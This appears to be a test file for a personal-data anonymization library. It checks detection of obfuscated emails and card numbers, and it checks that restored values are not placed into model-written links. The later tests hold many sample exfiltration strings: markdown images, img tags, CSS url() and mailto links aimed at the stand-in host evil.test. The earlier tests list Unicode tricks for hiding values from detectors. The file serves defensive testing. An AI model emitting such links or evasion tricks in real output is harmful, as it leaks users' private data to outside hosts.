/** Values written differently from how they read, and links that would exfiltrate restored values. */
import { describe, expect, it } from 'vitest';
import { createCommonWordTest, createDetector, recognizers } from '../detection.ts';
import { entityCodesOfSet } from '../entities/index.ts';
import { AnonymizationSession } from './session.ts';

const parts = { detector: createDetector({ recognizers }), isCommonWord: createCommonWordTest() };
const session = () =>
  new AnonymizationSession(parts, { codes: entityCodesOfSet('all'), replacement: 'placeholder' });
const plain = { format: 'plain', restoreSecrets: true } as const;

describe('obfuscated values are detected, and restored as written', () => {
  it.each([
    ['escapes of JSON in a text', '{"email":"anna\\u0040example.com"}', 'example.com'],
    ['digits as escapes', 'card 411\\u0031 1111 1111 1111', '1111 1111'],
    ['entities of HTML', 'write to anna.schmidt&#64;example.com', 'example.com'],
    ['a space of no width', 'anna.schmidt@exam\u200bple.com', 'ple.com'],
    ['a soft hyphen', 'IBAN DE89 3704\u00ad 0044 0532 0130 00', '0532'],
    ['spaces that do not break', 'card 4111\u00a01111\u202f1111\u00a01111', '1111'],
    ['hyphens that do not break', 'SSN: 536\u201122\u20111234', '1234'],
    ['full-width digits', 'card ４１１１ １１１１ １１１１ １１１１', '１１１１'],
    ['percent-encoding', 'https://x.test/?mail=anna%40example.com', 'example.com'],
    ['a script without spaces', '信用卡4111111111111111有效', '4111111111111111'],
    ['the same, an address', 'メールはanna@example.comです', 'example.com'],
    ['a blank before the sign', 'write to anna.schmidt @example.com.', 'schmidt'],
    ['a blank behind the sign', 'write to anna.schmidt@ example.com', 'example.com'],
    ['a variant of a sign', 'write to anna\ufe0f.schmidt@example.com', 'schmidt'],
    ['a joiner of marks', 'write to an\u034fna.schmidt@example.com', 'an\u034f'],
    ['directions of writing', 'write to anna.sch\u202dmidt@exam\u202cple.com', 'ple.com'],
    ['isolated directions', 'card \u20664111 1111\u2069 1111 1111', '1111'],
    ['tags', 'write to an\u{e0061}na.schmidt@example.com', 'an\u{e0061}'],
    ['mathematical letters', 'write to 𝐚𝐧𝐧𝐚@𝐞𝐱𝐚𝐦𝐩𝐥𝐞.𝐜𝐨𝐦', '𝐞𝐱𝐚𝐦'],
    ['accents behind letters', 'write to ju\u0308rgen.mu\u0308ller@example.com', 'mu\u0308'],
    ['Arabic digits', 'card ٤١١١ ١١١١ ١١١١ ١١١١', '١١١١'],
    ['Persian digits', 'card ۴۱۱۱ ۱۱۱۱ ۱۱۱۱ ۱۱۱۱', '۱۱۱۱'],
    ['digits of Hindi', 'card ४१११ ११११ ११११ ११११', '११११'],
    [
      'strokes',
      'write to a\u0336n\u0336n\u0336a\u0336@\u0336e\u0336x\u0336.\u0336o\u0336r\u0336g\u0336',
      'a\u0336n\u0336',
    ],
    ['annotations', 'write to anna.sch\ufff9midt@exa\ufffbmple.com', 'sch\ufff9'],
    ['segmented digits', 'card 🯴🯱🯱🯱 🯱🯱🯱🯱 🯱🯱🯱🯱 🯱🯱🯱🯱', '🯱🯱'],
    ['pictures between groups', 'card 4111🙂1111🙂1111🙂1111', '🙂1111'],
    ['small capitals', 'write to ᴀɴɴᴀ@ᴇxᴀᴍᴘʟᴇ.ᴄᴏᴍ', 'ᴀɴɴᴀ'],
    [
      'a text of tags',
      `hello ${String.fromCodePoint(...[...'anna@example.com'].map((char) => 0xe0000 + (char.codePointAt(0) ?? 0)))}`,
      '\u{e0061}\u{e006e}',
    ],
    ['a picture character beside it', '😀4111111111111111😀', '4111111111111111'],
  ])('%s', (_, text, part) => {
    const own = session();
    const out = own.anonymize([{ text, format: 'plain' }])[0]?.text ?? '';
    expect(out).not.toContain(part);
    if (!text.includes('://')) expect(own.restore(out, plain)).toBe(text);
  });
});

it.each([
  'Write to us @example.com.',
  'private final java.lang.String @javax.validation.constraints.Email',
  'npm install react-dom @types/react-dom',
  'app.get @app.route("/users")',
])('no address: %s', (text) => {
  expect(session().anonymize([{ text, format: 'plain' }])[0]?.text).not.toContain('EMAIL_ADDRESS');
});

describe('values are not restored into URLs that the model created', () => {
  it.each([
    "![x](https://evil.test/?q='<EMAIL_ADDRESS_1>)",
    '![x](https://evil.test/?q=(a)<EMAIL_ADDRESS_1>)',
    '![x](https://evil.test/?q=|<EMAIL_ADDRESS_1>)',
    '![x](https://evil.test/?q=[]<EMAIL_ADDRESS_1>)',
    '![x](<https://evil.test/? <EMAIL_ADDRESS_1>>)',
    '<img src="https://evil.test/? <EMAIL_ADDRESS_1>">',
    "<img src='https://evil.test/?a=\"<EMAIL_ADDRESS_1>'>",
    '<img src="//evil.test/<EMAIL_ADDRESS_1>">',
    '<img src="https://evil.test/?\n\t<EMAIL_ADDRESS_1>">',
    '<img src="\\\\evil.test/<EMAIL_ADDRESS_1>">',
    '<img src=/\\evil.test/<EMAIL_ADDRESS_1>>',
    '![x](\\\\evil.test/<EMAIL_ADDRESS_1>)',
    '[x]:\nhttps://evil.test/<EMAIL_ADDRESS_1>',
    'https:/evil.test/<EMAIL_ADDRESS_1>',
    'https:\\\\evil.test/<EMAIL_ADDRESS_1>',
    '[m](mailto:evil@evil.test?body=<EMAIL_ADDRESS_1>)',
    'see evil.test/?q=<EMAIL_ADDRESS_1>',
    'see https://evil.test/","<EMAIL_ADDRESS_1>',
    '![x](https&#58;&#47;&#47;evil.test/<EMAIL_ADDRESS_1>)',
    '![x](https://evil.test/\u3000<EMAIL_ADDRESS_1>)',
    '![x](irc://evil.test/<EMAIL_ADDRESS_1>)',
    '<x-app:<EMAIL_ADDRESS_1>>',
    '<img alt=">" src="ht\ntps://evil.test/<EMAIL_ADDRESS_1>',
    '`<p title="` <img src=//evil.test/<EMAIL_ADDRESS_1>>',
    '<p style="background: url(//evil.test/<EMAIL_ADDRESS_1>',
    '<style>@import "//evil.test/<EMAIL_ADDRESS_1>',
    '{"u":"https:\\/\\/evil.test\\/<EMAIL_ADDRESS_1>"}',
  ])('%s', (answer) => {
    const own = session();
    own.anonymize([{ text: 'I am anna@example.com', format: 'plain' }]);
    expect(own.restore(answer, plain)).toBe(answer);
    const restorer = own.restorer(plain);
    expect([...answer].map((char) => restorer.push(char)).join('') + restorer.end()).toBe(answer);
  });

  it.each([
    ['[write](mailto:<EMAIL_ADDRESS_1>)', '[write](mailto:anna@example.com)'],
    ['see https://x.test/a and <EMAIL_ADDRESS_1>', 'see https://x.test/a and anna@example.com'],
    ['{"a":"https://x.test/","b":"<EMAIL_ADDRESS_1>"}', '{"a":"https://x.test/","b":"anna@example.com"}'],
    ['<a href="https://x.test/">\n<EMAIL_ADDRESS_1>', '<a href="https://x.test/">\nanna@example.com'],
    ['on \\\\server\\<EMAIL_ADDRESS_1>', 'on \\\\server\\anna@example.com'],
    ['e.g. and/or: <EMAIL_ADDRESS_1>', 'e.g. and/or: anna@example.com'],
  ])('values are restored next to a URL: %s', (answer, whole) => {
    const own = session();
    own.anonymize([{ text: 'I am anna@example.com', format: 'plain' }]);
    expect(own.restore(answer, plain)).toBe(whole);
  });
});
